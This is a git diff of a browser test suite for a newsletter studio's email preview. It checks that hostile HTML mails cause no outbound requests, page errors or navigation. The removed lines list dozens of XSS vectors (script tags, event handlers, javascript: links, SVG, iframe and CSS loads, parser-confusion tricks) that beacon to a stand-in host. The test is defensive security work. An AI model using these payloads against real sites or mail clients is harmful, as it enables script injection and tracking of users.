@@ -5,62 +5,17 @@ import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vit
 import { openBrowser, requireBrowser } from '../helpers/browser.ts'
 import { makeNewsletter } from '../helpers/newsletter.ts'
 import { openStudio } from '../studio/open-studio.ts'
-
-/** HTML that tells another server as soon as anything in it runs. `EVIL` is its address, `N` the number of the piece. */
-const PIECES: readonly string[] = [
-  '<script>new Image().src="EVIL/N"</script>',
-  '<script src="EVIL/N"></script>',
-  '<script type="module">import("EVIL/N")</script>',
-  '<img src="x" onerror="new Image().src=\'EVIL/N\'">',
-  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="new Image().src=\'EVIL/N\'">',
-  '<body onload="new Image().src=\'EVIL/N\'">',
-  '<p style="animation:x 1ms" onanimationstart="new Image().src=\'EVIL/N\'">x</p><style>@keyframes x{to{opacity:.9}}</style>',
-  '<input autofocus onfocus="new Image().src=\'EVIL/N\'">',
-  '<details open ontoggle="new Image().src=\'EVIL/N\'"><summary>x</summary></details>',
-  '<video src="x" onerror="new Image().src=\'EVIL/N\'"></video>',
-  '<svg onload="new Image().src=\'EVIL/N\'"></svg>',
-  '<svg><script>new Image().src="EVIL/N"</script></svg>',
-  '<svg><script href="EVIL/N"></script></svg>',
-  '<svg><animate onbegin="new Image().src=\'EVIL/N\'" attributeName="x" dur="1ms"></animate></svg>',
-  '<svg><foreignObject><iframe srcdoc="<script>new Image().src=\'EVIL/N\'</script>"></iframe></foreignObject></svg>',
-  '<svg><image href="EVIL/N"></image></svg>',
-  '<svg><use href="EVIL/N#x"></use></svg>',
-  '<iframe srcdoc="<script>new Image().src=\'EVIL/N\'</script>"></iframe>',
-  '<iframe src="EVIL/N"></iframe>',
-  '<iframe src="javascript:new Image().src=\'EVIL/N\'"></iframe>',
-  '<object data="EVIL/N"></object>',
-  '<embed src="EVIL/N">',
-  '<meta http-equiv="refresh" content="0;url=EVIL/N">',
-  '<meta http-equiv="refresh" content="0;url=javascript:new Image().src=\'EVIL/N\'">',
-  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
-  '<link rel="stylesheet" href="EVIL/N">',
-  '<link rel="prefetch" href="EVIL/N">',
-  '<link rel="modulepreload" href="EVIL/N">',
-  '<style>@import "EVIL/N";</style>',
-  '<style>@font-face{font-family:y;src:url(EVIL/N)}p{font-family:y}</style>',
-  '<p style="background:url(EVIL/N)">x</p>',
-  '<style>p:not([x]){list-style:url(EVIL/N);border-image:url(EVIL/N);cursor:url(EVIL/N),auto}</style>',
-  '<p style="width:expression(new Image().src=\'EVIL/N\');behavior:url(EVIL/N)">x</p>',
-  '<img src="EVIL/N">',
-  '<audio src="EVIL/N" autoplay></audio>',
-  '<form action="EVIL/N" id="f"><button class="go">x</button></form>',
-  '<form action="/api/inbox" method="post" enctype="text/plain"><button class="go">x</button></form>',
-  '<a class="go" href="javascript:new Image().src=\'EVIL/N\'">x</a>',
-  '<a class="go" href="&#106;avascript:new Image().src=\'EVIL/N\'" target="_blank">x</a>',
-  '<a class="go" href="java\nscript:new Image().src=\'EVIL/N\'">x</a>',
-  '<a class="go" href="data:text/html,<script>new Image().src=\'EVIL/N\'</script>">x</a>',
-  '<a class="go" href="vbscript:x">x</a>',
-  '<svg><a class="go" href="javascript:new Image().src=\'EVIL/N\'"><text y="20">x</text></a></svg>',
-  '<base href="EVIL/N/">',
-  '<template><script>new Image().src="EVIL/N"</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=new(Image)().src=\'EVIL/N\'>">x</p></noscript>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=new(Image)().src=\'EVIL/N\'>">',
-]
+import { PIECES } from './hostile-pieces.ts'
 
 /** Tabs that are open at a time. */
 const AT_ONCE = 8
 
 const wrap = (piece: string) => `<!doctype html><html><head><title>quiet</title></head><body>${piece}</body></html>`
+
+/** What is told of a mail whose names hide the methods of its own document; it is shown all the same. */
+function isOwnNames(piece: string | undefined, words: string): boolean {
+  return / name="(?:querySelectorAll|addEventListener)"/.test(piece ?? '') && /is not a function/.test(words)
+}
 
 describe.skipIf(!(await requireBrowser()))('a hostile mail', () => {
   let browser: Browser
@@ -87,6 +42,11 @@ describe.skipIf(!(await requireBrowser()))('a hostile mail', () => {
 
   const fill = (number: number) =>
     (PIECES[number] ?? '').replaceAll('EVIL/N', `${address}/${number}`).replaceAll('EVIL', address)
+
+  const writeMail = (number: number) => {
+    const head = 'From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n'
+    return [`data/inbox/m${number}.eml`, `${head}\r\n${wrap(fill(number))}\r\n`] as const
+  }
 
   /** Tabs, and the dialogs that were shown in each. */
   const openTabs = async (count: number) => {
@@ -128,11 +88,7 @@ describe.skipIf(!(await requireBrowser()))('a hostile mail', () => {
     const issue =
       '---\ntitle: T\nweek: 2026-W34\ntemplate: raw\n---\nText.\n\n## One\n\n### [E](https://example.com/)\n\nText.\n'
     const issues = PIECES.map((_, index) => [`issues/p${index}.md`, issue] as const)
-    const mails = PIECES.map((_, index) => {
-      const head =
-        'From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n'
-      return [`data/inbox/m${index}.eml`, `${head}\r\n${wrap(fill(index))}\r\n`] as const
-    })
+    const mails = PIECES.map((_, index) => writeMail(index))
     const root = makeNewsletter({
       ...Object.fromEntries([...issues, ...mails]),
       'emails/raw.tsx': `const PIECES = ${pieces}\n${template}\n`,
@@ -159,5 +115,42 @@ describe.skipIf(!(await requireBrowser()))('a hostile mail', () => {
       expect(html, 'the piece is there').toContain(fill(number).slice(0, 20))
     }
     expect((await get<{ total: number }>('/api/inbox')).body.total).toBe(PIECES.length)
+  })
+
+  test('is shown by the page itself, in every scheme, and does nothing there either', {
+    timeout: 300_000,
+  }, async () => {
+    const root = makeNewsletter(Object.fromEntries(PIECES.map((_, index) => writeMail(index))))
+    const { preview } = await openStudio(root)
+    hits = []
+    const left = [...PIECES.keys()]
+    const tabs = await openTabs(AT_ONCE / 2)
+    await Promise.all(
+      tabs.map(async ({ page, complaints }) => {
+        page.on('pageerror', (error) => complaints.push(error.message))
+        for (let number = left.shift(); number !== undefined; number = left.shift()) {
+          const piece = PIECES[number]
+          await page.goto(`${preview.url}/?${number}#/inbox/m${number}/html?scheme=outlook&images=off`)
+          await page
+            .locator('.screen iframe:not(.coming)')
+            .waitFor({ timeout: 20_000 })
+            .catch((error: unknown) => {
+              throw new Error(`never shown: ${piece}`, { cause: error })
+            })
+          await page.locator('label', { hasText: 'Light' }).click()
+          await page.waitForURL(/html\?images=off$/)
+          for (const target of await page.frameLocator('.screen iframe:not(.coming)').locator('.go').all())
+            await target.click({ timeout: 1000, force: true, noWaitAfter: true }).catch(() => undefined)
+          await page.waitForTimeout(120)
+          expect(
+            complaints.splice(0).filter((words) => !isOwnNames(piece, words)),
+            piece,
+          ).toEqual([])
+          expect(page.url(), piece).toBe(`${preview.url}/?${number}#/inbox/m${number}/html?images=off`)
+          expect(await page.locator('.screen iframe:not(.coming)').count(), piece).toBe(1)
+        }
+      }),
+    )
+    expect(hits.map((number) => PIECES[Number(number)])).toEqual([])
   })
 })
